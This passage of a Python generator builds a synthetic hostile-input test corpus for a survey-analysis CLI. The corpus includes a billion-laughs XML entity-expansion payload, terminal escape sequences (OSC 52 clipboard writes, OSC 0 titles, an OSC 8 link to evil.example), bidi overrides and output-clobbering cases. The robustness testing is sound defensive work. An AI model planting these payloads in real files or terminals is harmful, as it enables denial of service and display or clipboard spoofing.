sheet_sst = sheet_xml([HEADER] + ROWS).replace(
    inline_cell("G3", ROWS[1][6]), '<c r="G3" t="s"><v>999999</v></c>'
)
put("xlsx-shared-string-out-of-range.xlsx", workbook(sheet_sst, shared=sst))
case(
    "xlsx-shared-string-out-of-range",
    "cell G3 points at shared string 999999 of a table with one entry",
    ["xlsx-shared-string-out-of-range.xlsx"],
    battery(
        ["xlsx-shared-string-out-of-range.xlsx"],
        "any",
        names=named("xlsx-shared-string-out-of-range.xlsx"),
        export="xlsx-shared-string-out-of-range.xlsx",
        light=True,
    ),
)

put("xlsx-no-worksheets.xlsx", workbook(sheet_xml([HEADER]), sheets=(), drop=("xl/worksheets/sheet1.xml",)))
case(
    "xlsx-no-worksheets",
    "a workbook whose <sheets> is empty",
    ["xlsx-no-worksheets.xlsx"],
    battery(["xlsx-no-worksheets.xlsx"], "refuse", names=named("xlsx-no-worksheets.xlsx"), export="xlsx-no-worksheets.xlsx", light=True),
)

put("xlsx-missing-sheet-part.xlsx", workbook(sheet_xml([HEADER]), drop=("xl/worksheets/sheet1.xml",)))
case(
    "xlsx-missing-sheet-part",
    "the workbook lists Sheet1 but the zip has no xl/worksheets/sheet1.xml",
    ["xlsx-missing-sheet-part.xlsx"],
    battery(
        ["xlsx-missing-sheet-part.xlsx"],
        "refuse",
        names=named("xlsx-missing-sheet-part.xlsx"),
        export="xlsx-missing-sheet-part.xlsx",
        light=True,
    ),
)

lol = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&f;</t></si></sst>'
)
put(
    "xlsx-entity-expansion.xlsx",
    workbook(sheet_xml([HEADER] + ROWS).replace(inline_cell("M2", ROWS[0][12]), '<c r="M2" t="s"><v>0</v></c>'), shared=lol),
)
case(
    "xlsx-entity-expansion",
    "sharedStrings.xml declares nested entities (billion laughs) used by cell M2",
    ["xlsx-entity-expansion.xlsx"],
    battery(
        ["xlsx-entity-expansion.xlsx"], "any", names=named("xlsx-entity-expansion.xlsx"), export="xlsx-entity-expansion.xlsx", light=True
    ),
)

# ---- definitions (next to the valid base export, as e.csv) -------------------------------------
def def_case(name, what, text, where_needle=None, where=None, expect="refuse", names=None, lenient=()):
    """lenient: runs (by id) for which the definition's fault does not matter: any exit will do."""
    put(name + ".toml", text)
    w = where
    if where_needle is not None:
        w = [sum((at_line(n) for n in key_lines(text, where_needle)), [])]
    nm = names or named(name + ".toml")
    runs = battery(["--survey", name + ".toml"], expect, names=nm, where=w, has_def=True, zh=False)
    runs.append(run("summarize-zh", step(["summarize", "--survey", name + ".toml"], expect, lang="zh", names=nm, where=w)))
    for r in runs:
        if r["id"] in lenient:
            for s_ in r["steps"]:
                s_["expect"] = "any"
    case(name, what, [(BASE_CSV, "e.csv"), name + ".toml"], runs)


base_def = files[BASE_DEF].decode()
def_case(
    "def-nan-score",
    "a level scored `nan`",
    base_def.replace("score = 60 }", "score = nan }"),
    where_needle="score = nan",
)
def_case(
    "def-inf-score",
    "a level scored `inf`",
    base_def.replace("score = 100, positive", "score = inf, positive"),
    where_needle="score = inf",
)
def_case(
    "def-nan-target",
    "an indicator whose target is `nan`",
    base_def.replace('target = "90%"', "target = nan"),
    where_needle="target = nan",
)
def_case(
    "def-negative-points",
    "an indicator worth -inf points",
    base_def.replace("points = 8", "points = -inf"),
    where_needle="points = -inf",
)
def_case(
    "def-unknown-key",
    "a question with a misspelt key `scael`",
    base_def.replace('item = "办事效率"\nscale = "sat6"', 'item = "办事效率"\nscael = "sat6"'),
    where_needle="scael",
)
def_case(
    "def-missing-column",
    "a question number 42 that no column of the export has",
    base_def.replace("number = 5\nkind", "number = 42\nkind"),
    where_needle="number = 42",
)
def_case(
    "def-syntax-error",
    "an unterminated string on the title line",
    base_def.replace('title = "hostile corpus"', 'title = "hostile corpus'),
    where_needle='title = "hostile corpus',
)
def_case(
    "def-missing-export",
    "the population's files name an export that does not exist",
    base_def.replace('files = ["e.csv"]', 'files = ["no-such-export.csv"]'),
    names=named("no-such-export.csv"),
)
def_case(
    "def-size-below-n",
    "a population size (5) smaller than the 30 valid responses (check and compare use no population size)",
    base_definition(size=5),
    lenient=("check", "compare-by"),
)
def_case(
    "def-negative-size",
    "a population size of -400",
    base_definition(size=-400),
    where_needle="size = -400",
)
def_case(
    "def-duplicate-question-id",
    "two questions with the id `service`",
    base_def.replace('id = "efficiency"', 'id = "service"'),
    where=[sum((at_line(n) for n in key_lines(base_def, 'id = "efficiency"') + key_lines(base_def, 'id = "service"')), [])],
)
def_case(
    "def-impossible-window-date",
    "a fieldwork window starting 2024-02-30",
    base_def.replace('start = "2024-05-01"', 'start = "2024-02-30"'),
    where_needle='start = "2024-02-30"',
)
put("def-utf16.toml", b"\xff\xfe" + base_def.encode("utf-16-le"))
case(
    "def-utf16",
    "the definition saved as UTF-16 with a BOM (Windows Notepad 'Unicode')",
    [(BASE_CSV, "e.csv"), "def-utf16.toml"],
    battery(["--survey", "def-utf16.toml"], "refuse", names=named("def-utf16.toml"), has_def=True, zh=False, light=True),
)
hostile_def = (
    base_def.replace('title = "hostile corpus"', f'title = {json.dumps("标题" + OSC0 + CSI_RED + RLO + "评价" + C1_CSI + "2J")}')
    .replace('name = "社会公众"', f'name = {json.dumps("社会公众" + OSC52)}')
    .replace('name = "满意度"', f'name = {json.dumps("满意度" + LRI + "x" + PDI + CSI_CLEAR)}')
    .replace('id = "channels"', f'id = "channels"\ntext = {json.dumps("渠道" + C1_OSC + "0;t" + C1_ST + RLO + "道渠")}')
    .replace('name = "社会公众满意度"', f'name = {json.dumps("满意度" + ESC + "[5m闪烁" + CSI_RESET)}')
)
def_case(
    "def-control-chars-in-text",
    "title, population, scale, question text and indicator name carrying OSC 0/52, CSI, C1 and bidi overrides",
    hostile_def,
    expect="read",
)
# LARGE (moderate): ~400 KB of scales that no question uses
big = [base_def, "\n# LARGE: many unused scales, to time the definition reader\n"]
br = random.Random(SEED + 5)
for k in range(1500):
    labels = [f"等级{k}_{j}" for j in range(5)]
    big.append(
        f'[[scale]]\nid = "unused_{k}"\nname = "未用量表{k}"\nlevels = [\n'
        + "".join(f'  {{ label = "{l}", score = {br.randint(0, 100)} }},\n' for l in labels)
        + "]\n\n"
    )
put("def-large-400k.toml", "".join(big))
case(
    "def-large-400k",
    "LARGE (moderate): the base definition plus 1,500 unused scales (~400 KB); must read in a few seconds",
    [(BASE_CSV, "e.csv"), "def-large-400k.toml"],
    battery(["--survey", "def-large-400k.toml"], "read", received=30, has_def=True, zh=False, light=True),
    large=True,
)

# ---- review logs (next to a copy of the base export) --------------------------------------------
def decision(row, respondent, verdict="exclude", rule="manual", reason="复核", time="2024-06-01T08:00:00Z"):
    return json.dumps(
        {"time": time, "row": row, "respondent": respondent, "decision": verdict, "rule": rule, "reason": reason},
        ensure_ascii=False,
    )


def log_case(name, what, lines_, *, stderr_where=None, expect="read", stderr_names=True, raw=None):
    export = name + ".csv"
    log = export + ".review.jsonl"
    put(log, raw if raw is not None else "\n".join(lines_) + "\n")
    sn = named(log) if stderr_names else None
    case(
        name,
        what,
        [(BASE_CSV, export), log],
        battery(
            [export],
            expect,
            names=named(log),
            stderr_names=sn,
            stderr_where=stderr_where,
            export=export,
        ),
    )


log_case(
    "log-wrong-respondent",
    "line 2 names row 4 with 序号 17 (row 4 is 序号 4): refused with a warning naming the log line",
    [decision(2, "2"), decision(4, "17"), decision(6, "6", "include")],
    stderr_where=[at_line(2)],
)
log_case(
    "log-row-out-of-range",
    "line 1 names row 9999 of a 30-row export: a warning naming the log line",
    [decision(9999, "9999"), decision(3, "3")],
    stderr_where=[at_line(1)],
)
log_case(
    "log-torn-last-line",
    "the last of three lines is cut short (a crash mid-write): a warning naming line 3",
    None,
    raw=decision(2, "2") + "\n" + decision(3, "3") + "\n" + decision(5, "5")[:40],
    stderr_where=[at_line(3)],
)
log_case(
    "log-escape-in-rule-and-reason",
    "valid decisions whose rule and reason carry OSC 52, CSI, C1 CSI and bidi overrides (check prints them)",
    [
        decision(2, "2", rule="speeder" + OSC52, reason="代填" + CSI_RED + "红" + CSI_RESET),
        decision(3, "3", rule=C1_CSI + "2J" + RLO + "rule", reason=OSC0 + LRE + "x"),
    ],
    stderr_names=False,
)
log_case(
    "log-binary-garbage",
    "4 KB of random bytes where the review log should be",
    None,
    raw=bytes(random.Random(SEED + 6).getrandbits(8) for _ in range(4096)),
    expect="any",
)
log_case(
    "log-huge-row-number",
    "a decision about row 18446744073709551615 and one about row -1",
    [
        '{"time":"2024-06-01T08:00:00Z","row":18446744073709551615,"respondent":"1","decision":"exclude","rule":"manual","reason":"x"}',
        '{"time":"2024-06-01T08:00:00Z","row":-1,"respondent":"1","decision":"exclude","rule":"manual","reason":"x"}',
    ],
    stderr_where=[at_line(1)],
)

# ---- hostile text in exports ----------------------------------------------------------------
def text_case(name, what, header=None, rows=None, *, encoding="utf-8", newline="\n"):
    h = header if header is not None else HEADER
    rs = rows if rows is not None else ROWS
    put(name + ".csv", csv_text(h, rs, newline).encode(encoding))
    case(name, what, [name + ".csv"], battery([name + ".csv"], "read", received=len(rs), export=name + ".csv"))


h = HEADER.copy()
h[COL["2、您对本项目的了解程度："]] = "2、您对本项目的了解程度：" + OSC52
h[COL["5、您对本项目还有什么意见建议？"]] = "5、意见建议" + OSC52 + "？"
text_case("text-osc52-header", "two question headers carrying an OSC 52 clipboard-write sequence", header=h)

rs = [r.copy() for r in ROWS]
for k in (1, 5, 9):
    rs[k][COL["5、您对本项目还有什么意见建议？"]] = OSC0 + "建议" + CSI_CLEAR
rs[3][COL["3、您对以下方面的满意程度—服务质量"]] = OSC0 + "满意"
text_case("text-osc0-title-answers", "answers (free text and a rating) carrying OSC 0 window-title and clear-screen sequences", rows=rs)

rs = [r.copy() for r in ROWS]
rs[2][COL["3、您对以下方面的满意程度—办事效率"]] = CSI_RED + "满意" + CSI_RESET
rs[6][COL["3、您对以下方面的满意程度—办事效率"]] = CSI_RED + "满意" + CSI_RESET
rs[7][COL["1、您的性别："]] = ESC + "[1;32m男" + CSI_RESET
text_case("text-csi-colour-labels", "rating and option labels wrapped in CSI colour codes (unknown labels, listed in warnings)", rows=rs)

h = HEADER.copy()
h[COL["1、您的性别："]] = "1、您的性别" + C1_CSI + "2J："
rs = [r.copy() for r in ROWS]
for k in (4, 11):
    rs[k][COL["5、您对本项目还有什么意见建议？"]] = C1_OSC + "0;title" + C1_ST + "建议" + C1_CSI + "31m"
rs[12][COL["3、您对以下方面的满意程度—信息公开"]] = "满意" + C1_CSI + "0m"
text_case("text-c1-controls", "C1 controls (U+009B CSI, U+009D OSC, U+009C ST) in a header, answers and a label", header=h, rows=rs)

h = HEADER.copy()
h[COL["3、您对以下方面的满意程度—服务质量"]] = "3、您对以下方面的满意程度—" + RLO + "量质务服"
rs = [r.copy() for r in ROWS]
rs[0][COL["5、您对本项目还有什么意见建议？"]] = "同意" + RLO + "意同不" + LRI + "x" + PDI
rs[1][COL["来自IP"]] = "1.2.3.4(" + RLO + "西山)"
rs[10][COL["2、您对本项目的了解程度："]] = LRE + "了解一些"
text_case("text-bidi-overrides", "U+202E/U+202A overrides and U+2066/2069 isolates in a header, a label, an answer and the IP", header=h, rows=rs)

rs = [r.copy() for r in ROWS]
rs[3][COL["来源"]] = "微信" + OSC0
rs[8][COL["来源"]] = CSI_RED + "链接"
rs[13][COL["序号"]] = "14" + ESC + "[8m"
rs[14][COL["来自IP"]] = ESC + "]8;;http://evil.example/" + BEL + "1.2.3.4" + ESC + "]8;;" + BEL
text_case("text-control-in-metadata", "escape sequences in 来源 (compare --by prints it), 序号 and 来自IP (an OSC 8 hyperlink)", rows=rs)

rs = [r.copy() for r in ROWS]
rs[5][COL["5、您对本项目还有什么意见建议？"]] = "好评\r差评\x08\x08\x7f"
rs[6][COL["5、您对本项目还有什么意见建议？"]] = "满意\x0b\x0c\x1c"
rs[16][COL["3、您对以下方面的满意程度—服务质量"]] = "满意\r"
text_case("text-cr-backspace", "bare CR, backspaces, vertical tab, form feed and file separator in answers", rows=rs)

rs = [r.copy() for r in ROWS]
rs[2][COL["5、您对本项目还有什么意见建议？"]] = "建议" + OSC0 + CSI_RED + "重点" + CSI_RESET
h = HEADER.copy()
h[COL["1、您的性别："]] = "1、您的性别" + ESC + "[41m："
text_case("text-gbk-escapes", "a GBK (CRLF) export with ESC sequences in a header and an answer", header=h, rows=rs, encoding="gbk", newline="\r\n")

h = HEADER.copy()
h[COL["2、您对本项目的了解程度："]] = "2、" + ESC + "[31m您对本项目的了解程度：" + CSI_RESET
rs = [r.copy() for r in ROWS]
rs[4][COL["5、您对本项目还有什么意见建议？"]] = "建议" + OSC52
text_xlsx = workbook(
    sheet_xml([h] + rs).replace(
        inline_cell("M8", rs[6][12]), '<c r="M8" t="inlineStr"><is><t>建议&#x1B;]0;x&#x7;_x001B_[2J</t></is></c>'
    ).replace("\x1b", "&#x1B;").replace("\x07", "&#x7;")
)
put("text-xlsx-escapes.xlsx", text_xlsx)
case(
    "text-xlsx-escapes",
    "an XLSX export with ESC as XML character references (&#x1B;) and as the OOXML escape _x001B_ in a header and answers",
    ["text-xlsx-escapes.xlsx"],
    battery(["text-xlsx-escapes.xlsx"], "read", received=30, export="text-xlsx-escapes.xlsx"),
)

# a file whose own NAME carries an escape sequence (created at test time: git keeps it out)
case(
    "text-escape-in-file-name",
    "a ragged export whose file name carries OSC 0 and CSI: every message naming the file must show them made visible",
    [("csv-ragged-rows.csv", "ragged" + OSC0 + CSI_RED + ".csv")],
    battery(
        ["ragged" + OSC0 + CSI_RED + ".csv"],
        "refuse",
        names=named("ragged"),
        where=[at_row(7) + at_line(8)],
        export="ragged" + OSC0 + CSI_RED + ".csv",
        light=True,
    ),
)

# ---- hostile command-line text ------------------------------------------------------------------
case(
    "args-control-chars",
    "exclude --rule/--reason with OSC 52, C1 and bidi (then check prints the log), --sheet and --by with escapes",
    [(BASE_CSV, "e.csv"), (BASE_XLSX, "e.xlsx")],
    [
        run(
            "exclude-rule-then-check",
            step(
                ["exclude", "e.csv", "--row", "2", "--rule", "check:x" + OSC52, "--reason", "代填" + C1_CSI + "2J" + RLO + "x"],
                "any",
                appends=["e.csv.review.jsonl"],
            ),
            step(["check", "e.csv"], "read"),
            step(["check", "e.csv"], "read", lang="zh"),
            step(["summarize", "e.csv", "--format", "md"], "read"),
        ),
        run(
            "include-reason-escape",
            step(["include", "e.csv", "--respondent", "3", "--reason", OSC0 + "核实" + CSI_CLEAR], "any", appends=["e.csv.review.jsonl"], lang="zh"),
            step(["check", "e.csv"], "read"),
        ),
        run(
            "exclude-unknown-rule-escape",
            step(["exclude", "e.csv", "--row", "2", "--rule", "speeder" + OSC52, "--reason", "x"], "refuse"),
        ),
        run("exclude-unknown-respondent-escape", step(["exclude", "e.csv", "--respondent", "99" + OSC0, "--reason", "x"], "refuse", names=named("e.csv"))),
        run("sheet-escape", step(["summarize", "e.xlsx", "--sheet", "S" + OSC0 + RLO], "refuse", names=named("e.xlsx"))),
        run("by-escape", step(["summarize", "e.csv", "--by", "来源" + CSI_RED + C1_CSI], "refuse")),
        run("population-escape", step(["summarize", "e.csv", "--population", "p" + OSC0], "any")),
    ],
)
case(
    "args-nonfinite-numbers",
    "plan and summarize with NaN, infinite and out-of-range numbers",
    [(BASE_CSV, "e.csv")],
    [
        run("plan-margin-nan", step(["plan", "--margin", "nan"], "refuse")),
        run("plan-margin-inf", step(["plan", "--margin", "inf"], "refuse")),
        run("plan-margin-zero", step(["plan", "--margin", "0"], "refuse")),
        run("plan-p-nan", step(["plan", "--p", "NaN"], "refuse")),
        run("plan-conf-one", step(["plan", "--conf", "1"], "refuse")),
        run("plan-population-zero", step(["plan", "--margin", "0.05", "--population-size", "0"], "refuse")),
        run("plan-n-zero", step(["plan", "--n", "0"], "any")),
        run("summarize-conf-nan", step(["summarize", "e.csv", "--conf", "nan"], "refuse")),
        run("plan-ok", step(["plan", "--margin", "0.05", "--population-size", "420", "--n", "196"], "read")),
    ],
)

# ---- outputs that would replace an input or a special file ----------------------------------------
put("out-export-is-report.xlsx", files[BASE_XLSX])
E = named("e.csv")
case(
    "out-onto-export",
    "-o naming the export itself, for every command that writes a file",
    [(BASE_CSV, "e.csv"), (BASE_DEF, "d.toml")],
    [
        run("summarize", step(["summarize", "e.csv", "-o", "e.csv"], "refuse", names=E)),
        run("summarize-md", step(["summarize", "e.csv", "-f", "md", "-o", "./e.csv"], "refuse", names=E)),
        run("check", step(["check", "e.csv", "-o", "e.csv"], "refuse", names=E)),
        run("init", step(["init", "e.csv", "-o", "e.csv"], "refuse", names=E)),
        run("indicators", step(["indicators", "--survey", "d.toml", "-o", "e.csv"], "refuse", names=E)),
        run("compare", step(["compare", "--survey", "d.toml", "--by", "来源", "-o", "e.csv"], "refuse", names=E)),
        run("summarize-zh", step(["summarize", "e.csv", "-o", "e.csv"], "refuse", lang="zh", names=E)),
    ],
)
case(
    "out-onto-xlsx-export",
    "-o naming an XLSX export",
    [(BASE_XLSX, "e.xlsx")],
    [
        run("summarize", step(["summarize", "e.xlsx", "-o", "e.xlsx"], "refuse", names=named("e.xlsx"))),
        run("init", step(["init", "e.xlsx", "-o", "e.xlsx"], "refuse", names=named("e.xlsx"))),
    ],
)
case(
    "out-onto-definition",
    "--survey d.toml -o d.toml (and init -o d.toml)",
    [(BASE_CSV, "e.csv"), (BASE_DEF, "d.toml")],
    [
        run("summarize", step(["summarize", "--survey", "d.toml", "-o", "d.toml"], "refuse", names=named("d.toml"))),
        run("indicators", step(["indicators", "--survey", "d.toml", "-o", "d.toml"], "refuse", names=named("d.toml"))),
        run("check", step(["check", "--survey", "d.toml", "-o", "d.toml"], "refuse", names=named("d.toml"))),
    ],
)
put("out-existing-review-log.csv.review.jsonl", decision(2, "2") + "\n")
case(
    "out-onto-review-log",
    "-o naming the export's review log",
    [(BASE_CSV, "e.csv"), ("out-existing-review-log.csv.review.jsonl", "e.csv.review.jsonl")],
    [
        run("summarize", step(["summarize", "e.csv", "-o", "e.csv.review.jsonl"], "refuse", names=named("e.csv.review.jsonl"))),
        run("check", step(["check", "e.csv", "-o", "e.csv.review.jsonl"], "refuse", names=named("e.csv.review.jsonl"))),
    ],
)
case(
    "out-onto-symlink-to-export",
    "-o naming a symlink to the export",
    [(BASE_CSV, "e.csv")],
    [run("summarize", step(["summarize", "e.csv", "-o", "link.csv"], "refuse", names=[["link.csv", "e.csv"]]))],
    setup=[{"symlink": "link.csv", "to": "e.csv"}],
)
case(
    "out-onto-hardlink-to-export",
    "-o naming a hard link to the export",
    [(BASE_CSV, "e.csv")],
    [run("summarize", step(["summarize", "e.csv", "-o", "hard.csv"], "refuse", names=[["hard.csv", "e.csv"]]))],
    setup=[{"hardlink": "hard.csv", "to": "e.csv"}],
)
case(
    "out-report-dir-holds-export",
    "report report.xlsx -o . where the export is itself report.xlsx",
    [("out-export-is-report.xlsx", "report.xlsx")],
    [
        run("report-dot", step(["report", "report.xlsx", "-o", "."], "refuse", names=named("report.xlsx"))),
        run("report-dot-zh", step(["report", "report.xlsx", "-o", "."], "refuse", lang="zh", names=named("report.xlsx"))),
    ],
)
case(
    "out-to-device",
    "-o naming a character device (a private copy of /dev/null made with mknod): written to, left a device",
    [(BASE_CSV, "e.csv")],
    [
        run("summarize", step(["summarize", "e.csv", "-o", "null"], "read", still_device="null")),
        run("check", step(["check", "e.csv", "-o", "null"], "read", still_device="null")),
        run("init", step(["init", "e.csv", "-o", "null"], "read", still_device="null")),
    ],
    setup=[{"null_device": "null"}],
)
case(
    "out-to-fifo",
    "-o naming a FIFO (held open by the test): written to, left a FIFO",
    [(BASE_CSV, "e.csv")],
    [run("summarize", step(["summarize", "e.csv", "-o", "pipe"], "read", still_fifo="pipe"))],
    setup=[{"fifo": "pipe"}],
)
case(
    "out-missing-folder",
    "-o nodir/x.csv: the message names the missing folder, not an internal temporary file",
    [(BASE_CSV, "e.csv")],
    [
        run("summarize", step(["summarize", "e.csv", "-o", "nodir/x.csv"], "refuse", names=named("nodir"), must_not=[".wenjuan-"])),
        run("init", step(["init", "e.csv", "-o", "nodir/x.toml"], "refuse", names=named("nodir"), must_not=[".wenjuan-"])),
    ],
)
case(
    "out-file-mode",
    "new output files get the mode umask 022 gives (0644), not 0600",
    [(BASE_CSV, "e.csv")],
    [
        run("summarize", step(["summarize", "e.csv", "-o", "new.csv"], "read", umask="022", modes={"new.csv": 0o644})),
        run("init", step(["init", "e.csv", "-o", "new.toml"], "read", umask="022", modes={"new.toml": 0o644})),
        run("report", step(["report", "e.csv", "-o", "rep"], "read", umask="022", modes={"rep/report.md": 0o644, "rep/report.xlsx": 0o644})),
    ],
)


# --------------------------------------------------------------------------------------------
def manifest_text(manifest) -> str:
    """JSON with one line per run, so that a diff of the manifest reads case by case."""
    dump = lambda v: json.dumps(v, ensure_ascii=False)
    out = ["{"]
    for k in ("generator", "seed", "note"):
        out.append(f" {dump(k)}: {dump(manifest[k])},")
    out.append(' "cases": [')
    for ci, c in enumerate(manifest["cases"]):
        out.append("  {")
        head = {k: v for k, v in c.items() if k != "runs"}
        for k, v in head.items():
            out.append(f"   {dump(k)}: {dump(v)},")
        out.append('   "runs": [')
        for ri, r in enumerate(c["runs"]):
            out.append("    " + dump(r) + ("," if ri + 1 < len(c["runs"]) else ""))
        out.append("   ]")
        out.append("  }" + ("," if ci + 1 < len(manifest["cases"]) else ""))
    out.append(" ]")
    out.append("}")
    text = "\n".join(out) + "\n"
    assert json.loads(text) == manifest
    return text


def expectation(c) -> str:
    """One line per distinct expectation of a case's runs, for the README."""
    seen = []
    for r in c["runs"]:
        for s_ in r["steps"]:
            if s_["expect"] == "usage":
                continue
            e = {"read": "read (exit 0/1)", "refuse": "refuse (exit 2)", "any": "read or refuse"}[s_["expect"]]
            parts = []
            if s_.get("received") is not None:
                parts.append(f"received = {s_['received']}")
            if s_.get("received_if_read") is not None:
                parts.append(f"if read: received = {s_['received_if_read']}")
            if s_.get("flags"):
                parts.append("check lists 序号 " + ", ".join(s_["flags"]))
            if s_["expect"] != "read" and (s_.get("names") or s_.get("where")):
                frag = [g[0] for g in s_.get("names", []) + s_.get("where", [])]
                parts.append(("if refused, " if s_["expect"] == "any" else "") + "message names " + " + ".join(f"`{f}`" for f in frag))
            if s_.get("stderr_names") or s_.get("stderr_where"):
                frag = [g[0] for g in s_.get("stderr_names", []) + s_.get("stderr_where", [])]
                parts.append("warning names " + " + ".join(f"`{f}`" for f in frag))
            for k, what in (("still_device", "stays a device"), ("still_fifo", "stays a FIFO")):
                if s_.get(k):
                    parts.append(f"`{s_[k]}` {what}")
            if s_.get("modes"):
                parts.append("modes " + ", ".join(f"{k} {v:04o}" for k, v in s_["modes"].items()))
            line = e + (": " + "; ".join(parts) if parts else "")
            if line not in seen:
                seen.append(line)
    return "<br>".join(seen)


def readme_text() -> str:
    def vis(t: str) -> str:
        return "".join(f"\\u{{{ord(ch):x}}}" if ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F or 0x202A <= ord(ch) <= 0x202E or 0x2066 <= ord(ch) <= 0x2069 else ch for ch in t)

    out = [
        "# The hostile-input corpus",
        "",
        "SYNTHETIC. Written by `python3 scripts/make_hostile_corpus.py` (seeded, byte-identical on every run; do not",
        "edit by hand). `cargo test --test hostile_corpus` copies each case into a fresh folder, runs the commands",
        "listed in `manifest.json` (summarize as CSV/JSON/Markdown and with -o, check, init, indicators, compare --by,",
        "report, exclude/include, tui; `--lang en` and, for a subset, the default Chinese) and checks, for every run:",
        "no panic; a refused input exits 2 naming the file (and row/line/column/sheet); nothing left behind by a",
        "refused run; no raw control character (ESC, C0 but \\n \\t \\r\\n, C1, bidi overrides/isolates) on stdout,",
        "stderr or in a file written; no input changed. Violations are printed as one table.",
        "",
        "Every command on every case also runs `tui`, which outside a terminal must exit 2 (usage).",
        "",
        "| case | files (name in the case folder) | what it is | what each command must do |",
        "|---|---|---|---|",
    ]
    for c in cases:
        fl = ", ".join(
            f"`{vis(f['as'])}`" + ("" if f["src"] == f["as"] else f" ← `{f['src']}`") for f in c["files"]
        )
        for s_ in c.get("setup", []):
            for k in ("symlink", "hardlink", "fifo", "null_device"):
                if k in s_:
                    fl += f", `{s_[k]}` ({k.replace('_', ' ')}" + (f" → {s_['to']}" if "to" in s_ else "") + ")"
        what = ("**LARGE** " if c.get("large") else "") + vis(c["what"])
        out.append(f"| {c['name']} | {fl} | {what.replace('|', '/')} | {vis(expectation(c)).replace('|', '/')} |")
    return "\n".join(out) + "\n"


def main():
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)
    for name, data in sorted(files.items()):
        (OUT / name).write_bytes(data)
    # every file is used by some case
    used = {f["src"] for c in cases for f in c["files"]}
    unused = set(files) - used
    assert not unused, unused
    names = [c["name"] for c in cases]
    assert len(names) == len(set(names))
    manifest = {
        "generator": "scripts/make_hostile_corpus.py",
        "seed": SEED,
        "note": "SYNTHETIC. Regenerate with python3 scripts/make_hostile_corpus.py; see the script's header for the schema.",
        "cases": cases,
    }
    (OUT / "manifest.json").write_text(manifest_text(manifest), encoding="utf-8")
    (OUT / "README.md").write_text(readme_text(), encoding="utf-8")
    total = sum(len(d) for d in files.values())
    n_runs = sum(len(c["runs"]) for c in cases)
    n_steps = sum(len(r["steps"]) for c in cases for r in c["runs"])
    hostile = [n for n in files if not n.startswith("base-")]
    print(f"{len(files)} files ({len(hostile)} hostile), {total / 1024:.0f} KiB; {len(cases)} cases, {n_runs} runs, {n_steps} steps")


if __name__ == "__main__":
    main()
